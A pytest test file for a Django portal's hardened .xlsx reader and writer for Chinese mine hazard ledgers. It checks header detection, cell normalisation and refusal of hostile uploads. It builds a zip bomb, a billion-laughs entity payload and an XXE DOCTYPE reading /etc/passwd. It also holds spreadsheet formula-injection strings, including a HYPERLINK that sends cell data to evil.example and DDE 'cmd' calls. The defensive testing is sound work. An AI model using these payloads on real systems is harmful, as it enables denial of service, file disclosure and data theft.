"""The safe .xlsx reader/writer: messy real-world files are read, hostile ones are refused before parsing."""

from __future__ import annotations

import datetime
import decimal
import io
import time
import zipfile
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from portal import spreadsheets
from portal.spreadsheets import (
    CellError,
    ImportResult,
    SpreadsheetError,
    clean_text,
    neutralise_formula,
    normalize_header,
    open_table,
    open_workbook,
    parse_choice,
    parse_date,
    parse_decimal,
    write_table,
)

SYNONYMS = {
    "name": ["企业名称", "单位名称", "企业全称"],
    "code": ["统一社会信用代码", "社会信用代码"],
    "found": ["发现日期", "排查日期"],
    "funds": ["整改资金", "资金"],
    "deadline": ["整改时限"],
    "person": ["责任人", "整改责任人"],
    "note": ["隐患内容", "存在问题"],
}


def xlsx(rows: list[list[Any]], *, merges: tuple[str, ...] = (), title: str = "Sheet1") -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    for cells in merges:
        sheet.merge_cells(cells)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def read_all(data: bytes, *, required: tuple[str, ...] = ("name", "code")) -> tuple[Any, list[tuple[int, dict]]]:
    with open_table(data, synonyms=SYNONYMS, required=required) as table:
        return table, list(table.rows())


def rewrite_member(data: bytes, name: str, content: bytes) -> bytes:
    """The same .xlsx with one member replaced."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, content if info.filename == name else source.read(info.filename))
    return out.getvalue()


@pytest.fixture
def no_parse(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """Fails the test if openpyxl is asked to parse: the refusal must come before."""
    calls: list[int] = []

    def forbidden(*args: Any, **kwargs: Any) -> None:
        calls.append(1)
        raise AssertionError("openpyxl.load_workbook must not be reached")

    monkeypatch.setattr(spreadsheets, "load_workbook", forbidden)
    return calls


# --- messy but legitimate files ----------------------------------------------------------------


def test_title_rows_merged_cells_header_on_row_4_synonyms_fullwidth_and_footer() -> None:
    data = xlsx(
        [
            ["泽州县某某矿业有限公司隐患排查治理台账"],
            ["填报单位：某某矿业（盖章）", None, None, "2024年5月"],
            [],
            ["序号", "＊单位名称\n（全称）", "社会信用代码", "排查日期", "存在问题"],
            [1, "甲矿业", "９１１４０５２５ＭＡ０Ｋ７ＸＱ２１５", "2024年5月1日", "边坡  浮石\u3000未清理"],
            [None, None, "  ", None],
            [2, "乙矿业", "91140525MA0K7XQ215", "2024/5/2", "=1+1"],
            [3, "丙矿业", "91140525MA0K7XQ215", 20240503, "@cmd"],
            [],
            ["填表人：张三", None, "审核人：李四"],
            ["主要负责人（签字）："],
            ["备注：本表每月25日前报送"],
        ],
        merges=("A1:E1", "A2:C2"),
    )
    table, rows = read_all(data)
    assert table.header_row == 4
    assert table.labels["name"] == "单位名称（全称）"
    assert [number for number, _ in rows] == [5, 7, 8]
    first = rows[0][1]
    assert clean_text(first["code"]) == "91140525MA0K7XQ215"
    assert clean_text(first["note"]) == "边坡 浮石 未清理"
    assert parse_date(first["found"]) == datetime.date(2024, 5, 1)
    assert parse_date(rows[1][1]["found"]) == datetime.date(2024, 5, 2)
    assert parse_date(rows[2][1]["found"]) == datetime.date(2024, 5, 3)
    # Formulas and @-prefixed text are read as their text, never evaluated.
    assert clean_text(rows[1][1]["note"]) == "=1+1"
    assert clean_text(rows[2][1]["note"]) == "@cmd"


def test_two_row_header_with_a_merged_group() -> None:
    data = xlsx(
        [
            ["某矿隐患台账"],
            ["序号", "企业名称", "统一社会信用代码", "整改五落实", None, None],
            [None, None, None, "资金（万元）", "整改时限", "责任人"],
            [1, "甲", "91140525MA0K7XQ215", "１.５", "2024.6.30", "张三"],
        ],
        merges=("A1:F1", "D2:F2", "A2:A3", "B2:B3", "C2:C3"),
    )
    table, rows = read_all(data)
    assert (table.header_row, table.data_start) == (2, 4)
    assert table.columns == {"name": 1, "code": 2, "funds": 3, "deadline": 4, "person": 5}
    (number, row), *_ = rows
    assert number == 4
    assert parse_decimal(row["funds"]) == decimal.Decimal("1.5")
    assert parse_date(row["deadline"]) == datetime.date(2024, 6, 30)


def test_a_data_row_under_the_header_is_not_taken_for_a_sub_header() -> None:
    # "责任人" in the first data row sits under a column the header already named.
    data = xlsx(
        [
            ["企业名称", "统一社会信用代码", "说明列"],
            ["甲", "91140525MA0K7XQ215", "责任人"],
        ]
    )
    table, rows = read_all(data)
    assert table.data_start == 2
    assert [number for number, _ in rows] == [2]


def test_signature_rows_in_the_middle_are_given_back_as_data() -> None:
    data = xlsx(
        [
            ["企业名称", "统一社会信用代码"],
            ["甲", "91140525MA0K7XQ215"],
            ["备注：下面还有数据", None],
            ["乙", "91140525MA0K7XQ215"],
            ["填表人：张三"],
        ]
    )
    _, rows = read_all(data)
    assert [number for number, _ in rows] == [2, 3, 4]


@pytest.mark.parametrize(
    ("first_cell", "footer"),
    [
        ("填表人：张三", True),
        ("填 表 人：", True),
        ("主要负责人（签字）：", True),
        ("单位负责人(签字)", True),
        ("备注：本表每月25日前报送", True),
        ("注：", True),
        ("合计", True),
        ("填报单位（盖章）：某矿", True),
        ("负责人未按规定带班下井", False),
        ("备注栏未填写", False),
        ("说明书缺失", False),
        ("合计划外作业", False),
    ],
)
def test_footer_rows(first_cell: str, footer: bool) -> None:
    from portal.spreadsheets import is_footer_row

    assert is_footer_row([None, first_cell, "x"]) is footer


def test_a_last_data_row_that_starts_with_a_footer_word_is_kept() -> None:
    data = xlsx(
        [
            ["存在问题", "企业名称", "统一社会信用代码"],
            ["边坡浮石", "甲", "91140525MA0K7XQ215"],
            ["负责人未按规定带班下井", "甲", "91140525MA0K7XQ215"],
            ["填表人：张三"],
        ]
    )
    _, rows = read_all(data)
    assert [number for number, _ in rows] == [2, 3]


def test_header_missing_or_below_row_10_is_refused_with_the_missing_columns() -> None:
    with pytest.raises(SpreadsheetError, match="统一社会信用代码"):
        read_all(xlsx([["企业名称", "地址"], ["甲", "x"]]))
    late = [["标题"]] * 11 + [["企业名称", "统一社会信用代码"], ["甲", "91140525MA0K7XQ215"]]
    with pytest.raises(SpreadsheetError, match="前 10 行"):
        read_all(xlsx(late))


def test_header_found_on_a_later_sheet() -> None:
    workbook = Workbook()
    workbook.active.append(["填表说明"])
    sheet = workbook.create_sheet("台账")
    sheet.append(["企业名称", "统一社会信用代码"])
    sheet.append(["甲", "91140525MA0K7XQ215"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    table, rows = read_all(buffer.getvalue())
    assert table.sheet_title == "台账"
    assert len(rows) == 1


def test_row_limit(settings: Any) -> None:
    settings.SPREADSHEET_MAX_ROWS = 3
    data = xlsx([["企业名称", "统一社会信用代码"]] + [[f"企业{i}", "x"] for i in range(4)])
    with pytest.raises(SpreadsheetError, match="3 行"):
        read_all(data)


def test_a_row_number_beyond_excel_is_refused() -> None:
    data = xlsx([["企业名称", "统一社会信用代码"], ["甲", "x"]])
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    hostile = sheet.replace(b'<row r="2"', b'<row r="1048578"').replace(b'r="A2"', b'r="A1048578"')
    hostile = hostile.replace(b'r="B2"', b'r="B1048578"')
    with pytest.raises(SpreadsheetError, match="行号超过"):
        read_all(rewrite_member(data, "xl/worksheets/sheet1.xml", hostile))


# --- cell normalisers ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    [
        "2024-05-01",
        "2024/5/1",
        "2024.5.1",
        "2024年5月1日",
        "2024 年 5 月 1 日",
        "20240501",
        "２０２４－０５－０１",
        "２０２４年５月１日",
        "2024-05-01 08:30",
        20240501,
        45413,  # the Excel serial of 2024-05-01
        datetime.datetime(2024, 5, 1, 0, 0),
        datetime.date(2024, 5, 1),
    ],
)
def test_parse_date_accepts_the_usual_forms(raw: Any) -> None:
    assert parse_date(raw) == datetime.date(2024, 5, 1)


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        ("2024-02-30", "日期不存在"),
        ("明天", "无法识别"),
        ("5/1", "无法识别"),
        (3.5, "无法识别"),
        ("20241301", "日期不存在"),
    ],
)
def test_parse_date_refuses_with_a_chinese_message(raw: Any, message: str) -> None:
    with pytest.raises(CellError, match=message):
        parse_date(raw)


def test_parse_date_blank_is_none() -> None:
    assert parse_date(None) is None
    assert parse_date("\u3000 ") is None


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        (1.5, "1.5"),
        (12, "12"),
        ("１２.５", "12.5"),
        ("1,200.50", "1200.50"),
        ("3.5万元", "3.5"),
        (" 7 ", "7"),
    ],
)
def test_parse_decimal(raw: Any, expected: str) -> None:
    assert parse_decimal(raw, units=("万元",)) == decimal.Decimal(expected)


def test_parse_decimal_errors() -> None:
    with pytest.raises(CellError, match="不是有效的数字"):
        parse_decimal("约三万")
    with pytest.raises(CellError, match="不能小于"):
        parse_decimal("-1", minimum=0)
    with pytest.raises(CellError, match="2 位小数"):
        parse_decimal("1.234", places=2)
    assert parse_decimal("1.2", places=2) == decimal.Decimal("1.20")
    assert parse_decimal("") is None


def test_parse_choice_by_label_value_and_synonym() -> None:
    choices = [("general", "一般事故隐患"), ("major", "重大事故隐患")]
    synonyms = {"general": ["一般", "一般隐患"], "major": ["重大", "重大隐患"]}
    for raw, expected in [
        ("一般", "general"),
        ("一般隐患", "general"),
        ("一般事故隐患", "general"),
        ("重大事故隐患", "major"),
        (" 重 大 ", "major"),
        ("major", "major"),
    ]:
        assert parse_choice(raw, choices, synonyms=synonyms) == expected, raw
    assert parse_choice("", choices) is None
    with pytest.raises(CellError, match="应为：一般事故隐患、重大事故隐患"):
        parse_choice("较大", choices, synonyms=synonyms)


def test_clean_text() -> None:
    assert clean_text("  ＡＢＣ１２３\u3000x  ") == "ABC123 x"
    assert clean_text("（括号）保留") == "（括号）保留"  # Chinese punctuation is text, not folded
    assert clean_text(13800001234.0) == "13800001234"
    assert clean_text(1.25) == "1.25"
    assert clean_text('=HYPERLINK("http://x")') == '=HYPERLINK("http://x")'
    assert clean_text("'=1+1") == "=1+1"  # our own export guard is removed on the way back
    assert clean_text("'普通文本") == "'普通文本"
    assert clean_text("a\x00b\x07c") == "abc"
    assert clean_text(None) == ""


def test_normalize_header() -> None:
    assert normalize_header("＊企业名称\n（全称）") == "企业名称"
    assert normalize_header("整改资金(万元)") == "整改资金"
    assert normalize_header(" 联 系 电 话： ") == "联系电话"
    assert normalize_header("【必填】统一社会信用代码") == "统一社会信用代码"


def test_import_result_lines_and_summary() -> None:
    result = ImportResult()
    result.add_error(7, "统一社会信用代码", "校验码错误")
    result.add_error(5, "", "整行为空")
    assert result.error_lines() == ["第5行：整行为空", "第7行 统一社会信用代码：校验码错误"]
    assert not result.ok
    assert result.summary() == "新增 0 条，更新 0 条，未变 0 条"


# --- hostile files ------------------------------------------------------------------------------


def valid_xlsx() -> bytes:
    return xlsx([["企业名称", "统一社会信用代码"], ["甲矿业", "91140525MA0K7XQ215"]])


def test_a_valid_file_opens() -> None:
    workbook = open_workbook(SimpleUploadedFile("a.xlsx", valid_xlsx()))
    try:
        assert workbook.read_only
    finally:
        workbook.close()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "旧版 Excel（.xls）"),
        ("企业名称,统一社会信用代码\n甲,91140525MA0K7XQ215\n".encode("gbk"), "CSV"),
        (b"<html><body><table><tr><td>1</td></tr></table></body></html>", "网页"),
        (b"%PDF-1.7\n", "PDF"),
        (b"\x00\x01\x02\x03garbage" * 10, "无法识别"),
        (b"", "文件为空"),
        (b"PK\x03\x04 truncated zip", "已损坏"),
    ],
)
def test_wrong_types_are_refused_by_content_not_name(content: bytes, message: str, no_parse: list[int]) -> None:
    with pytest.raises(SpreadsheetError, match=message):
        open_workbook(SimpleUploadedFile("台账.xlsx", content))
    assert no_parse == []


def test_other_zip_documents_are_refused(no_parse: list[int]) -> None:
    for members, message in [
        ({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}, "Word"),
        ({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"}, "ods"),
        ({"hello.txt": b"hi"}, "xl/workbook.xml"),
        ({"xl/workbook.xml": b"<workbook/>"}, "Content_Types"),
    ]:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            for name, content in members.items():
                archive.writestr(name, content)
        with pytest.raises(SpreadsheetError, match=message):
            open_workbook(buffer.getvalue())
    assert no_parse == []


def test_oversized_file_is_refused_before_reading(settings: Any, no_parse: list[int]) -> None:
    data = valid_xlsx()
    settings.UPLOAD_MAX_BYTES = len(data) - 1
    with pytest.raises(SpreadsheetError, match="文件过大"):
        open_workbook(SimpleUploadedFile("a.xlsx", data))
    with pytest.raises(SpreadsheetError, match="文件过大"):
        open_workbook(data)


def zip_bomb(inflated_bytes: int) -> bytes:
    """A real .xlsx whose worksheet member inflates to `inflated_bytes` of highly compressible XML."""
    data = valid_xlsx()
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    chunk = b"<!-- padding -->" * 65536  # 1 MiB
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                with target.open(info.filename, "w", force_zip64=True) as member:
                    written = 0
                    while written < inflated_bytes:
                        member.write(chunk)
                        written += len(chunk)
            else:
                target.writestr(info.filename, source.read(info.filename))
    return out.getvalue()


def test_zip_bomb_over_the_uncompressed_limit_is_refused_before_parsing(no_parse: list[int]) -> None:
    # 210 MiB inflated (the default limit is 200 MiB), well under 1 MiB on disk.
    bomb = zip_bomb(210 * 1024 * 1024)
    assert len(bomb) < 1024 * 1024
    started = time.perf_counter()
    with pytest.raises(SpreadsheetError, match="压缩炸弹"):
        open_workbook(bomb)
    assert time.perf_counter() - started < 1.0  # decided from the zip directory, nothing inflated
    assert no_parse == []


def test_zip_bomb_by_compression_ratio_is_refused(settings: Any, no_parse: list[int]) -> None:
    settings.SPREADSHEET_MAX_UNCOMPRESSED_BYTES = 10**12
    with pytest.raises(SpreadsheetError, match="压缩比"):
        open_workbook(zip_bomb(20 * 1024 * 1024))
    assert no_parse == []


def test_too_many_members_is_refused(no_parse: list[int]) -> None:
    source = zipfile.ZipFile(io.BytesIO(valid_xlsx()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            target.writestr(info.filename, source.read(info.filename))
        for index in range(600):
            target.writestr(f"xl/media/image{index}.png", b"x")
    with pytest.raises(SpreadsheetError, match="部件"):
        open_workbook(out.getvalue())
    assert no_parse == []


BILLION_LAUGHS = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">
<si><t>&lol9;</t></si></sst>"""


def with_shared_strings(shared_strings: bytes) -> bytes:
    """A valid .xlsx whose cell A2 reads the first entry of a shared-strings part (openpyxl itself
    writes inline strings, Excel writes shared strings)."""
    source = zipfile.ZipFile(io.BytesIO(valid_xlsx()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == "[Content_Types].xml":
                content = content.replace(
                    b"</Types>",
                    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                    b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml" /></Types>',
                )
            elif info.filename == "xl/_rels/workbook.xml.rels":
                content = content.replace(
                    b"</Relationships>",
                    b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                    b'sharedStrings" Target="sharedStrings.xml" Id="rId9" /></Relationships>',
                )
            elif info.filename == "xl/worksheets/sheet1.xml":
                content = content.replace(
                    '<c r="A2" t="inlineStr"><is><t>甲矿业</t></is></c>'.encode(), b'<c r="A2" t="s"><v>0</v></c>'
                )
                assert b'<c r="A2" t="s">' in content
            target.writestr(info.filename, content)
        target.writestr("xl/sharedStrings.xml", shared_strings)
    return out.getvalue()


def test_shared_strings_are_read() -> None:
    plain = BILLION_LAUGHS.split(b"]>", 1)[1].replace(b"&lol9;", "共享字符串矿业".encode())
    _, rows = read_all(with_shared_strings(b'<?xml version="1.0" encoding="UTF-8"?>' + plain))
    assert rows[0][1]["name"] == "共享字符串矿业"


def test_billion_laughs_in_shared_strings_is_refused(no_parse: list[int]) -> None:
    data = with_shared_strings(BILLION_LAUGHS)
    with pytest.raises(SpreadsheetError, match="XML 实体"):
        open_workbook(data)
    assert no_parse == []


def test_doctype_in_utf16_member_is_refused(no_parse: list[int]) -> None:
    payload = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'
    data = with_shared_strings(payload.encode("utf-16-le"))
    with pytest.raises(SpreadsheetError, match="XML 实体"):
        open_workbook(data)


def test_openpyxl_itself_parses_with_defusedxml(monkeypatch: pytest.MonkeyPatch) -> None:
    """Without our DOCTYPE scan, defusedxml (used by openpyxl) still refuses the entities."""
    from openpyxl.xml import DEFUSEDXML

    assert DEFUSEDXML is True
    monkeypatch.setattr(spreadsheets, "_check_xml_members", lambda archive: None)
    data = with_shared_strings(BILLION_LAUGHS)
    with pytest.raises(SpreadsheetError, match="XML 实体"), open_table(data, synonyms=SYNONYMS) as table:
        list(table.rows())


def test_formula_cells_are_read_as_text_not_values() -> None:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["企业名称", "统一社会信用代码", "存在问题"])
    sheet.append(["甲", "91140525MA0K7XQ215", '=HYPERLINK("http://evil.example/?"&A1,"点我")'])
    sheet.append(["乙", "91140525MA0K7XQ215", "=1+1"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    # A cached result in the file must not be what we read either.
    data = buffer.getvalue()
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>1+1</f>" in sheet_xml
    cached = sheet_xml.replace(b"<f>1+1</f><v />", b"<f>1+1</f><v>2</v>")
    assert b"<v>2</v>" in cached
    data = rewrite_member(data, "xl/worksheets/sheet1.xml", cached)
    _, rows = read_all(data)
    assert clean_text(rows[0][1]["note"]).startswith("=HYPERLINK(")
    assert clean_text(rows[1][1]["note"]) == "=1+1"


# --- writing ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+2", "'＝1+2"),
        ("普通文本", "普通文本"),
        ("a=b", "a=b"),
        ("-", "-"),
        ("-5", "-5"),
        ("+86", "+86"),
        (5, 5),
        (None, None),
    ],
)
def test_neutralise_formula(value: Any, expected: Any) -> None:
    assert neutralise_formula(value) == expected


def test_write_table_neutralises_every_text_cell_and_keeps_types() -> None:
    stream = write_table(
        ["名称", "=表头", "日期", "金额"],
        [["=cmd|'/C calc'!A0", "@x", datetime.date(2024, 5, 1), decimal.Decimal("1.50")], ["正常", "x\x01y", None, 3]],
        title="标题",
    )
    workbook = load_workbook(stream)
    sheet = workbook.active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0][0] == "标题"
    assert rows[1][1] == "'=表头"
    assert rows[2][0] == "'=cmd|'/C calc'!A0"
    assert rows[2][1] == "'@x"
    assert rows[2][2] == datetime.datetime(2024, 5, 1)
    assert rows[3][1] == "xy"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_a_broken_worksheet_part_is_a_clear_refusal() -> None:
    data = rewrite_member(valid_xlsx(), "xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row r='1'><c")
    with pytest.raises(SpreadsheetError, match="已损坏"):
        read_all(data)


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("边坡浮石未清理", "边坡浮石未清理"),
        ("边坡\u3000浮石", "边坡 浮石"),  # an ideographic space inside: folded
        ("\u3000边坡", "边坡"),  # outer spaces of any kind: trimmed
        ("边坡\u00a0", "边坡"),
        ("边坡\u2028", "边坡"),
        ("边坡  浮石", "边坡 浮石"),
        ("边坡\t浮石", "边坡 浮石"),
        ("边坡\u200b浮石", "边坡浮石"),  # invisible: dropped
        ("第１２处", "第12处"),  # full-width digits: folded
        ("边坡\r\n\n浮石 ", "边坡\n浮石"),
        ("'＝1+1", "＝1+1"),  # the export guard before a full-width sign
        ("'边坡", "'边坡"),
        ("边坡\x1f浮石", "边坡浮石"),
    ],
)
def test_clean_text_of_chinese_text(raw: str, clean: str) -> None:
    """Text that is not ASCII takes the same cleaning (the quick answer for text with nothing to clean)."""
    assert clean_text(raw) == clean


@pytest.mark.parametrize(
    ("value", "blank"),
    [(None, True), ("", True), ("\u3000 \t", True), ("\u200b", True), ("\u200b\u3000", True), ("Ａ", False),
     ("\u200bx", False), (" x", False), (0, False), ("边坡", False)],
)  # fmt: skip
def test_is_blank(value: Any, blank: bool) -> None:
    from portal.spreadsheets import is_blank

    assert is_blank(value) is blank


@pytest.mark.parametrize(
    ("row", "footer"),
    [
        (["\u200b填表人：张三"], True),  # an invisible character before the footer word
        (["\u3000 填表人：张三"], True),
        (["（填表人）"], False),
        (["Ａ填表人"], False),
        ([5, "填表人：张三"], False),  # the first non-blank cell decides: a number is data
        ([datetime.datetime(2024, 5, 1), "合计"], False),
        ([None, "  ", "合计"], True),
    ],
)
def test_footer_rows_by_their_first_non_blank_cell(row: list[Any], footer: bool) -> None:
    from portal.spreadsheets import is_footer_row

    assert is_footer_row(row) is footer
